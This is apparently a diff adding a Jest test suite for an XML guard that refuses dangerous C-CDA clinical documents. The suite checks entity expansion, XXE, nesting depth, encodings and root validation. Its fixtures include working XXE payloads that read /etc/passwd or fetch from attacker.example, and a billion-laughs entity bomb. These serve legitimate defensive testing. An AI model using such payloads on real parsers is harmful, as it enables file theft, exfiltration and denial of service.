@@ -1,0 +1,361 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { performance } from 'node:perf_hooks';
+import { FhirError } from '@phr/common';
+import { DEFAULT_XML_LIMITS, guardXml, type XmlGuardLimits } from './xml-guard';
+
+const EXAMPLES = join(__dirname, '..', '..', '..', 'fixtures', 'ccda-examples');
+const examples = readdirSync(EXAMPLES).filter((name) => name.endsWith('.xml'));
+
+const utf8 = (s: string) => Buffer.from(s, 'utf8');
+/** A minimal C-CDA: the declaration, then `prolog`, then the root holding `body`. */
+const cda = (body = '', prolog = '') =>
+  `<?xml version="1.0" encoding="UTF-8"?>\n${prolog}<ClinicalDocument xmlns="urn:hl7-org:v3">${body}</ClinicalDocument>`;
+
+function refusal(xml: string | Uint8Array, limits: XmlGuardLimits = DEFAULT_XML_LIMITS): FhirError {
+  try {
+    guardXml(typeof xml === 'string' ? utf8(xml) : xml, limits);
+  } catch (error) {
+    if (error instanceof FhirError) return error;
+    throw error;
+  }
+  throw new Error('the guard accepted the document');
+}
+
+/** Status, issue code and diagnostics of a refusal, for one `toMatchObject`. */
+function refused(xml: string | Uint8Array, limits?: XmlGuardLimits) {
+  const error = refusal(xml, limits);
+  return { status: error.status, code: error.issues[0]?.code, diagnostics: error.issues[0]?.diagnostics ?? '' };
+}
+
+function timed<T>(run: () => T): { result: T; ms: number } {
+  const start = performance.now();
+  const result = run();
+  return { result, ms: performance.now() - start };
+}
+
+/** Times are printed, not asserted tightly: speed is the benchmarks' business, these bounds only catch a blow-up. */
+function report(what: string, ms: number): void {
+  process.stdout.write(`xml-guard: ${what}: ${ms.toFixed(1)} ms\n`);
+}
+
+const DTD_REFUSED = /DTDs and entity declarations are not accepted/;
+
+describe('guardXml: real C-CDA documents', () => {
+  it('has the 15 HL7 example documents to test with', () => {
+    expect(examples).toHaveLength(15);
+  });
+
+  it.each(examples)('accepts %s, with its stylesheet PI, comments, schemaLocation and sdtc: names', (name) => {
+    const bytes = readFileSync(join(EXAMPLES, name));
+    const { result, ms } = timed(() => guardXml(bytes, DEFAULT_XML_LIMITS));
+    expect(result.root).toEqual({ name: 'ClinicalDocument', namespace: 'urn:hl7-org:v3' });
+    expect(result.text.startsWith('<?xml')).toBe(true);
+    if (bytes.length > 200_000) report(`${name} (${Math.round(bytes.length / 1024)} KiB)`, ms);
+  });
+
+  it('checks a 10 MB C-CDA in linear time', () => {
+    const ccd = readFileSync(join(EXAMPLES, 'Transfer_Summary.xml'), 'utf8');
+    const open = ccd.indexOf('<structuredBody>') + '<structuredBody>'.length;
+    const close = ccd.indexOf('</structuredBody>');
+    const sections = ccd.slice(open, close);
+    const big = utf8(ccd.slice(0, close) + sections.repeat(Math.ceil(10e6 / sections.length)) + ccd.slice(close));
+    guardXml(big, DEFAULT_XML_LIMITS); // warm-up: the first call compiles
+    const { result, ms } = timed(() => guardXml(big, DEFAULT_XML_LIMITS));
+    expect(result.root.name).toBe('ClinicalDocument');
+    report(`${(big.length / 1e6).toFixed(1)} MB C-CDA`, ms);
+    expect(ms).toBeLessThan(5000);
+  });
+});
+
+describe('guardXml: DTDs and entities are refused before any parser runs', () => {
+  it('refuses billion laughs', () => {
+    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
+    const xml = cda('&lol9;', `<!DOCTYPE ClinicalDocument [\n<!ENTITY lol0 "lol">\n${lols}\n]>\n`);
+    expect(refused(xml)).toMatchObject({
+      status: 400,
+      code: 'security',
+      diagnostics: expect.stringMatching(DTD_REFUSED),
+    });
+    expect(refused(xml).diagnostics).toMatch(/^a DOCTYPE declaration at line 2, column 1: .*XXE.*expand entities/);
+  });
+
+  it('refuses a quadratic blow-up (one large entity referenced many times)', () => {
+    const xml = `<!DOCTYPE ClinicalDocument [<!ENTITY big "${'x'.repeat(100_000)}">]>${cda('&big;'.repeat(100_000))}`;
+    expect(refused(xml)).toMatchObject({ status: 400, code: 'security' });
+  });
+
+  it.each([
+    ['a file', '<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'],
+    ['a URL', '<!DOCTYPE ClinicalDocument [<!ENTITY xxe SYSTEM "http://attacker.example/steal">]>'],
+    [
+      'a public identifier',
+      '<!DOCTYPE ClinicalDocument [<!ENTITY xxe PUBLIC "-//X//EN" "http://attacker.example/x">]>',
+    ],
+  ])('refuses an external entity (XXE) naming %s', (_, doctype) => {
+    expect(refused(cda('<title>&xxe;</title>', doctype))).toMatchObject({
+      status: 400,
+      code: 'security',
+      diagnostics: expect.stringMatching(DTD_REFUSED),
+    });
+  });
+
+  it('refuses parameter entities', () => {
+    const doctype =
+      '<!DOCTYPE ClinicalDocument [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>';
+    expect(refused(cda('', doctype))).toMatchObject({ status: 400, code: 'security' });
+  });
+
+  it('refuses an external DTD with no internal subset', () => {
+    expect(refused(cda('', '<!DOCTYPE ClinicalDocument SYSTEM "x.dtd">\n'))).toMatchObject({
+      status: 400,
+      code: 'security',
+      diagnostics: expect.stringMatching(/^a DOCTYPE declaration at line 2, column 1/),
+    });
+  });
+
+  it('finds a DOCTYPE behind comments and processing instructions, and in any letter case', () => {
+    const prolog =
+      '<?xml-stylesheet type="text/xsl" href="CDA.xsl"?>\n<!-- a\nlong\ncomment -->\n<?pi x?> <!doctype x>';
+    expect(refused(cda('', prolog))).toMatchObject({
+      status: 400,
+      code: 'security',
+      diagnostics: expect.stringMatching(/^a DOCTYPE declaration at line 6, column 10/),
+    });
+  });
+
+  it('refuses entity, element and attribute-list declarations wherever they stand outside comments and CDATA', () => {
+    for (const declaration of [
+      '<!ENTITY a "b">',
+      '<!ENTITY % p "q">',
+      '<!ELEMENT a ANY>',
+      '<!ATTLIST a b CDATA "c">',
+    ]) {
+      expect(refused(cda(`<title>${declaration}</title>`))).toMatchObject({ status: 400, code: 'security' });
+      expect(refused(cda('', declaration))).toMatchObject({ status: 400, code: 'security' });
+    }
+    expect(refused(cda('', '<?pi <!DOCTYPE x [<!ENTITY a "b">]> ?>'))).toMatchObject({ code: 'security' });
+  });
+
+  it('accepts a DOCTYPE or ENTITY that is only the text of a comment or a CDATA section', () => {
+    const body =
+      '<!-- <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]> -->' +
+      '<text><![CDATA[<!DOCTYPE x><!ENTITY % p "q"> &undefined;]]></text>';
+    expect(
+      guardXml(utf8(cda(body, '<!-- <!DOCTYPE ClinicalDocument SYSTEM "x.dtd"> -->')), DEFAULT_XML_LIMITS).root,
+    ).toEqual({
+      name: 'ClinicalDocument',
+      namespace: 'urn:hl7-org:v3',
+    });
+  });
+
+  it('refuses an undefined entity such as &nbsp; with its line and column', () => {
+    expect(refused(cda('\n<title>Dr&nbsp;Who</title>'))).toMatchObject({
+      status: 400,
+      code: 'structure',
+      diagnostics: expect.stringMatching(/line 3, column 10: the entity &nbsp; is not defined: .*&#160;/),
+    });
+    expect(refused(cda('<id root="a&reg;b"/>')).diagnostics).toMatch(
+      /line 2, column 53: the entity &reg; is not defined/,
+    );
+  });
+
+  it('accepts the five predefined entities and references to XML characters', () => {
+    const body = '<title a="&quot;&apos;">&lt;&gt;&amp; &#123;&#x1F;&#x1F600;&#xa;&#9;&#65533;</title>';
+    // &#x1F; names no XML character, so it is the one left out here
+    expect(() => guardXml(utf8(cda(body.replace('&#x1F;', ''))), DEFAULT_XML_LIMITS)).not.toThrow();
+  });
+
+  it.each(['&#0;', '&#x1F;', '&#xD800;', '&#xFFFE;', '&#x110000;', '&#99999999999;', '&#X41;', '&#x;', '&#12a;'])(
+    'refuses the character reference %s',
+    (reference) => {
+      expect(refused(cda(`<title>${reference}</title>`))).toMatchObject({
+        status: 400,
+        code: 'structure',
+        diagnostics: expect.stringMatching(/line 2, column 49: the character reference .* names no XML character/),
+      });
+    },
+  );
+
+  it('refuses an ampersand that starts no reference', () => {
+    expect(refused(cda('<title>A & B</title>')).diagnostics).toMatch(/line 2, column 51: an `&` that starts no entity/);
+    expect(refused(cda('<title>&amp</title>')).diagnostics).toMatch(/an `&` that starts no entity/);
+  });
+});
+
+describe('guardXml: size limits, counted in the same scan', () => {
+  it('refuses 1,000,000 nested elements in milliseconds, without recursion', () => {
+    const deep = utf8(
+      `<ClinicalDocument xmlns="urn:hl7-org:v3">${'<a>'.repeat(1_000_000)}${'</a>'.repeat(1_000_000)}</ClinicalDocument>`,
+    );
+    const { result: error, ms } = timed(() => refused(deep));
+    expect(error).toMatchObject({
+      status: 400,
+      code: 'too-costly',
+      diagnostics: expect.stringMatching(/nest deeper than 64 levels at line 1, column 231.*maxDepth 64/),
+    });
+    report('1,000,000-deep document refused', ms);
+    expect(ms).toBeLessThan(1000);
+  });
+
+  it('allows exactly maxDepth levels', () => {
+    const nested = (n: number) => cda('<a>'.repeat(n - 2) + '<b/>' + '</a>'.repeat(n - 2));
+    expect(() => guardXml(utf8(nested(64)), DEFAULT_XML_LIMITS)).not.toThrow();
+    expect(refused(nested(65))).toMatchObject({ code: 'too-costly' });
+  });
+
+  it('refuses more elements and attributes than maxNodes', () => {
+    const limits = { maxDepth: 64, maxNodes: 11 };
+    expect(() => guardXml(utf8(cda('<id a="1" b="2"/>'.repeat(3))), limits)).not.toThrow(); // 1 + 1 (xmlns) + 3 × 3
+    expect(refused(cda('<id a="1" b="2"/>'.repeat(3) + '<x/>'), limits)).toMatchObject({
+      status: 400,
+      code: 'too-costly',
+      diagnostics: expect.stringMatching(/more than 11 elements and attributes .*maxNodes 11/),
+    });
+  });
+
+  it('refuses more than 256 attributes on one element, which fast-xml-parser handles in worse than linear time', () => {
+    const tag = (n: number) => `<id ${Array.from({ length: n }, (_, i) => `a${i}="x"`).join(' ')}/>`;
+    expect(() => guardXml(utf8(cda(tag(256))), DEFAULT_XML_LIMITS)).not.toThrow();
+    expect(refused(cda(tag(257)))).toMatchObject({
+      status: 400,
+      code: 'too-costly',
+      diagnostics: expect.stringMatching(/^the start tag <id> has more than 256 attributes \(line 2, column \d+\)/),
+    });
+  });
+});
+
+describe('guardXml: malformed XML', () => {
+  it('says where an unclosed tag is', () => {
+    expect(refused(cda('\n  <component>\n    <section>\n  </component>\n'))).toEqual({
+      status: 400,
+      code: 'structure',
+      diagnostics:
+        'the document is not well-formed XML: line 5, column 3: the end tag </component> does not close <section> ' +
+        '(line 4, column 5)',
+    });
+  });
+
+  it('refuses mismatched tags', () => {
+    expect(refused(cda('<title>x</name>')).diagnostics).toMatch(
+      /line 2, column 50: the end tag <\/name> does not close <title> \(line 2, column 42\)$/,
+    );
+    expect(refused(`${cda()}</x>`).diagnostics).toMatch(/line 2, column 61: the end tag <\/x> closes no element/);
+  });
+
+  it('refuses a document that ends inside its root', () => {
+    expect(refused('<ClinicalDocument xmlns="urn:hl7-org:v3"><title>').diagnostics).toMatch(
+      /line 1, column 49: the document ends before <title> \(line 1, column 42\) is closed$/,
+    );
+  });
+
+  it('turns the validator’s findings into line and column', () => {
+    expect(refused(cda('\n<id root="1" root="2"/>'))).toEqual({
+      status: 400,
+      code: 'structure',
+      diagnostics: "the document is not well-formed XML: line 3, column 14: Attribute 'root' is repeated.",
+    });
+    expect(refused(cda('<1d/>')).diagnostics).toMatch(/line 2, column \d+: Tag '1d' is an invalid name/);
+  });
+
+  it('refuses two roots, text after the root and text before it', () => {
+    expect(refused(`${cda()}\n<ClinicalDocument xmlns="urn:hl7-org:v3"/>`).diagnostics).toMatch(
+      /line 3, column 1: a second root element <ClinicalDocument>/,
+    );
+    expect(refused(`${cda()}\ntrailing`).diagnostics).toMatch(/line 3, column 1: text after the root element/);
+    expect(() => guardXml(utf8(`${cda()}\n<!-- fine --> <?fine?>\n`), DEFAULT_XML_LIMITS)).not.toThrow();
+    expect(refused(`hello ${cda()}`).diagnostics).toMatch(/line 1, column 1: text before the root element/);
+  });
+
+  it('refuses an empty body, a boolean attribute, `<` in an attribute and a misplaced XML declaration', () => {
+    expect(refused('').diagnostics).toMatch(/there is no root element/);
+    expect(refused('  <!-- only a comment -->').diagnostics).toMatch(/there is no root element/);
+    expect(refused(cda('<id nullFlavor/>')).diagnostics).toMatch(/line 2, column 46: a malformed attribute/);
+    expect(refused(cda('<id root="a<b"/>')).diagnostics).toMatch(/line 2, column 53: a `<` in the value/);
+    expect(refused(` ${cda()}`).diagnostics).toMatch(
+      /line 1, column 2: an XML declaration is allowed only at the very start/,
+    );
+  });
+
+  it('refuses element names the converter’s parser would throw on', () => {
+    expect(refused(cda('<__proto__/>'))).toMatchObject({ status: 400, code: 'structure' });
+  });
+});
+
+describe('guardXml: the root element', () => {
+  it('answers 415 for FHIR XML, pointing at FHIR JSON', () => {
+    expect(refused('<?xml version="1.0"?><Patient xmlns="http://hl7.org/fhir"><id value="1"/></Patient>')).toEqual({
+      status: 415,
+      code: 'not-supported',
+      diagnostics:
+        'the root element is `Patient` (namespace http://hl7.org/fhir): FHIR XML is not accepted; ' +
+        'post FHIR R4 JSON (application/fhir+json) to /fhir, and only C-CDA documents here',
+    });
+    expect(refused('<f:Bundle xmlns:f="http://hl7.org/fhir"/>').status).toBe(415);
+  });
+
+  it('answers 400 naming a root that is not ClinicalDocument in the HL7 v3 namespace', () => {
+    expect(refused('<Patient xmlns="urn:hl7-org:v3"/>')).toEqual({
+      status: 400,
+      code: 'invalid',
+      diagnostics:
+        'the root element is `Patient` (namespace urn:hl7-org:v3), not an HL7 CDA ClinicalDocument (namespace urn:hl7-org:v3)',
+    });
+    expect(refused('<ClinicalDocument/>').diagnostics).toMatch(/`ClinicalDocument` \(no namespace\), not an HL7 CDA/);
+    expect(refused('<ClinicalDocument xmlns="urn:other"/>').diagnostics).toMatch(/\(namespace urn:other\)/);
+  });
+
+  it('reads a prefixed root', () => {
+    expect(guardXml(utf8('<cda:ClinicalDocument xmlns:cda="urn:hl7-org:v3"/>'), DEFAULT_XML_LIMITS).root).toEqual({
+      name: 'ClinicalDocument',
+      namespace: 'urn:hl7-org:v3',
+    });
+  });
+});
+
+describe('guardXml: encodings', () => {
+  const document = cda('<title>Müller – 漢字 😀</title>').replace('UTF-8', 'UTF-16');
+
+  it('accepts UTF-16 with a byte-order mark, little- or big-endian, and UTF-8 with or without one', () => {
+    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(document, 'utf16le')]);
+    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(document, 'utf16le').swap16()]);
+    const bom = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(cda())]);
+    for (const bytes of [le, be]) {
+      const guarded = guardXml(bytes, DEFAULT_XML_LIMITS);
+      expect(guarded.text).toBe(document);
+      expect(guarded.root.name).toBe('ClinicalDocument');
+    }
+    expect(guardXml(bom, DEFAULT_XML_LIMITS).text).toBe(cda());
+  });
+
+  it('refuses a declared encoding other than UTF-8 or UTF-16', () => {
+    expect(refused(cda().replace('UTF-8', 'ISO-8859-1'))).toMatchObject({
+      status: 400,
+      code: 'not-supported',
+      diagnostics: expect.stringMatching(/names the encoding ISO-8859-1: only UTF-8 and UTF-16/),
+    });
+    expect(refused("<?xml version='1.0' encoding='windows-1252'?><ClinicalDocument/>").status).toBe(400);
+  });
+
+  it('refuses bytes that are not UTF-8, and UTF-16 that is broken', () => {
+    const latin1 = Buffer.from(cda('<title>Müller</title>'), 'latin1');
+    expect(refused(latin1)).toMatchObject({
+      status: 400,
+      code: 'structure',
+      diagnostics: expect.stringMatching(/not valid UTF-8/),
+    });
+    const loneSurrogate = Buffer.concat([
+      Buffer.from([0xff, 0xfe]),
+      Buffer.from('<a>', 'utf16le'),
+      Buffer.from([0x00, 0xd8]),
+    ]);
+    expect(refused(loneSurrogate).diagnostics).toMatch(/not valid UTF-16LE/);
+  });
+
+  it('refuses characters XML forbids, such as NUL or UTF-16 sent without a byte-order mark', () => {
+    expect(refused(cda('<title>a\u0000b</title>')).diagnostics).toMatch(/line 2, column 50: the character U\+0000/);
+    expect(refused(Buffer.from(cda(), 'utf16le')).diagnostics).toMatch(
+      /line 1, column 2: the character U\+0000 is not allowed in XML \(UTF-16 must start with a byte-order mark\)/,
+    );
+  });
+});
